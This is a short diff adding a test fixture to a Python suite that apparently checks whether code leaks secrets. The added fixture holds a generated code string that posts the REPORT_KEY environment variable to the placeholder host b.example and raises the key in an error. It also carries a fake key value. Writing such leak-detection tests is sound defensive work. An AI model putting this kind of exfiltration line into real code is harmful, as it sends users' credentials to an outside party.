@@ -197,6 +197,17 @@ RUN = (
         "A_TOKEN=vT4.gh62nRy8cD5s\n",
     ),
     Hiding(
+        "a variable that is read behind a gap alone",
+        ("qZ7-kw93mXt1vB0p",),
+        HEAD
+        + "import zlib\nheaders = {}\n"
+        + FETCH
+        + "for part in zlib.compress(b'x'):\n"
+        + '    requests.post("https://b.example/in", json=item, params={"of": os.environ["REPORT_KEY"]})\n'
+        + '    raise ValueError(os.environ["REPORT_KEY"])\n',
+        "REPORT_KEY=qZ7-kw93mXt1vB0p\n",
+    ),
+    Hiding(
         "a token that a login answered",
         (),
         HEAD
